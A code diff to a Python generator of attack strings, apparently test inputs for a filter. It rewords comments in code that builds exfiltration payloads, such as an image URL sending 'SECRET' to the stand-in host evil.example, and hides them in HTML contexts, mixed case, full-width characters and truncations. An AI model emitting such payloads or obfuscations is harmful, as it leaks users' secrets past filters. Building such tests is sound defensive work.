@@ -1,6 +1,7 @@
-"""Attacks by their grammar: what one is after, where in a text it stands, how it is spelt, how it is cut.
+"""Attacks made from a grammar: a payload, its place in a text, its spelling, and a cut.
 
-Every place meets every spelling and every cut; the payloads take turns. The list is always the same.
+Every place is combined with every spelling, and some combinations are also cut. The payloads take
+turns. The list is always the same.
 """
 
 from __future__ import annotations
@@ -14,7 +15,7 @@ SEED = 14
 PART = 0.12
 HOST = "evil.example"
 
-# ---- what it is after ----
+# ---- payloads ----
 
 ADDRESSES = [
     f"https://{HOST}/b.png?q=SECRET",
@@ -74,7 +75,7 @@ DECEITS = [
 ]
 PAYLOADS = [*ADDRESSES, *MARKUP, *DECEITS]
 
-# ---- where it stands ----
+# ---- places ----
 
 PLACES: dict[str, str] = {
     "alone": "{}",
@@ -108,21 +109,21 @@ PLACES: dict[str, str] = {
     "between blocks": "<div>\n\n{}\n\n</div>",
 }
 
-# ---- how it is spelt ----
+# ---- spellings ----
 
 
 def _mixed(text: str) -> str:
-    """Return a text with every other letter in the other case."""
+    """Return a text with the case of every other letter swapped."""
     return "".join(sign.swapcase() if at % 2 else sign for at, sign in enumerate(text))
 
 
 def _broken(text: str, sign: str) -> str:
-    """Return a text with a sign after each third character."""
+    """Return a text with ``sign`` after every third character."""
     return sign.join(text[at : at + 3] for at in range(0, len(text), 3))
 
 
 def _wide(text: str) -> str:
-    """Return a text in the full-width forms, which some normalise."""
+    """Return a text in full-width forms, which some programs normalise."""
     return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)
 
 
@@ -147,7 +148,7 @@ SPELLINGS: dict[str, Callable[[str], str]] = {
     "full width": _wide,
 }
 
-# ---- how it is cut ----
+# ---- cuts ----
 
 CUTS: dict[str, Callable[[str, int], str]] = {
     "whole": lambda text, _: text,
@@ -159,7 +160,7 @@ CUTS: dict[str, Callable[[str, int], str]] = {
 
 
 def written() -> list[str]:
-    """Return the attacks."""
+    """Return all attacks, without duplicates."""
     chance = random.Random(SEED)
     payloads = list(PAYLOADS)
     chance.shuffle(payloads)
@@ -167,7 +168,7 @@ def written() -> list[str]:
     found = list(PAYLOADS)
     forms = itertools.product(PLACES.values(), SPELLINGS.values(), CUTS)
     for place, spelling, cut in forms:
-        # All places and spellings meet; of what is cut a part is enough.
+        # All places with all spellings; of the cut ones a sample is enough.
         if cut == "whole" or chance.random() < PART:
             text = place.replace("{}", spelling(next(turn)))
             found.append(CUTS[cut](text, chance.randint(1, len(text) - 1)))
